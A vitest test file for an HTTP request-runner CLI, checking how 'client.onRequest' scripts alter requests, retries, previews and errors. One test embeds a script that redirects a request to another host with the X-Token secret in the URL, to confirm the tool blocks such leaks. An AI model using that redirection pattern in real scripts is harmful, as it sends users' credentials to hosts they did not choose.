import { beforeAll, describe, expect, it } from 'vitest';
import { type Echoes, openEchoes } from '../../hosts/echo-servers.ts';
import { restloop } from '../../program.ts';
import { folderOf } from '../files.ts';

let servers: Echoes;
beforeAll(async () => {
  servers = await openEchoes();
});

const file = `@base = http://OWN
< {%
  client.onRequest(r => r.headers.set('X-All', r.name));
%}
### TAG-first
# @name TAG-first
< {%
  client.onRequest(r => r.headers.set('X-Own', '1'));
%}
GET {{base}}/TAG-first
### TAG-second
# @name TAG-second
GET {{base}}/TAG-second
`;

const fileOf = (text: string, tag: string) => ({
  'a.http': text
    .replaceAll('OWN', servers.own.host)
    .replaceAll('OTHER', servers.other.host)
    .replaceAll('TAG', tag),
});

const seenHeaders = (tag: string) =>
  servers.seen(tag).map(({ url, headers }) => [url.slice(1), headers['x-all'], headers['x-own']]);

describe('client.onRequest in a file', () => {
  it.each([
    [[], 1],
    [['--iterations', '2', '--parallel', '2'], 2],
  ])(
    'is for all requests before the first one, and for its own request in the script of one: %j',
    async (flags, times) => {
      const tag = `run${times}`;
      const cwd = folderOf(fileOf(file, tag));
      expect(await restloop(['run', 'a.http', ...flags], { cwd })).toMatchObject({ code: 0 });
      const round = [
        [`${tag}-first`, `${tag}-first`, '1'],
        [`${tag}-second`, `${tag}-second`, undefined],
      ];
      expect(seenHeaders(tag).sort()).toEqual(
        Array.from({ length: times }, () => round)
          .flat()
          .sort(),
      );
    },
  );

  it('is for each attempt of a request once', async () => {
    const cwd = folderOf(
      fileOf(
        "### TAG\n< {%\n  client.onRequest(r => r.headers.append('X-Own', '1'));\n%}\nGET http://OWN/TAG\n> {% client.test('no', () => client.assert(false)); %}\n",
        'retried',
      ),
    );
    await restloop(['run', 'a.http', '--retry', '2'], { cwd });
    expect(servers.seen('retried').map(({ headers }) => headers['x-own'])).toEqual(['1', '1', '1']);
  });

  it('is previewed with its line, also in JSON', async () => {
    const cwd = folderOf(fileOf(file, 'shown'));
    const { stdout } = await restloop(['preview', 'a.http', '--json'], { cwd });
    const by = 'onRequest, a.http:';
    expect(JSON.parse(stdout).requests.map(({ changed }: { changed: unknown }) => changed)).toEqual([
      [
        { part: 'header', name: 'X-All', change: 'set', by: `${by}3` },
        { part: 'header', name: 'X-Own', change: 'set', by: `${by}8` },
      ],
      [{ part: 'header', name: 'X-All', change: 'set', by: `${by}3` }],
    ]);
    expect(servers.seen('shown')).toEqual([]);
  });

  it('holds a request back where it fails: exit code 3, with the place in the file', async () => {
    const cwd = folderOf(
      fileOf(
        '### TAG\n< {%\n  client.onRequest(r => {\n    missing();\n  });\n%}\nGET http://OWN/TAG\n',
        'failed',
      ),
    );
    const { code, stdout } = await restloop(['run', 'a.http'], { cwd });
    expect([code, stdout]).toEqual([
      3,
      expect.stringContaining('ReferenceError: missing is not defined (at a.http:4:5)'),
    ]);
    expect(servers.seen('failed')).toEqual([]);
  });

  it('takes no secret to a host that it chose', async () => {
    const cwd = folderOf(
      fileOf(
        "### TAG\n< {%\n  client.onRequest(r => { r.url = 'http://OTHER/TAG?t=' + r.headers.get('X-Token'); r.headers.delete('X-Token'); });\n%}\nGET http://OWN/TAG\nX-Token: {{token}}\n",
        'stolen',
      ),
    );
    const run = ['run', 'a.http', '--secret', 'token=sekret-of-mine-1234'];
    const { code, stdout } = await restloop(run, { cwd });
    expect([code, stdout]).toEqual([3, expect.stringContaining('was chosen by onRequest, a.http:3')]);
    expect(stdout).not.toContain('sekret-of-mine');
    expect(servers.seen('stolen')).toEqual([]);
    expect((await restloop([...run, '--allow-host', servers.other.host], { cwd })).code).toBe(0);
    expect(servers.seen('stolen')).toHaveLength(1);
  });
});

it('has the last word about requests of the command line', async () => {
  const handler = "client.onRequest(r => { r.method = 'PUT'; r.body = 'b'; })";
  const { code } = await restloop(['send', `GET http://${servers.own.host}/sent`, '--eval', handler]);
  expect([code, servers.seen('sent')]).toMatchObject([0, [{ method: 'PUT', body: 'b' }]]);
});
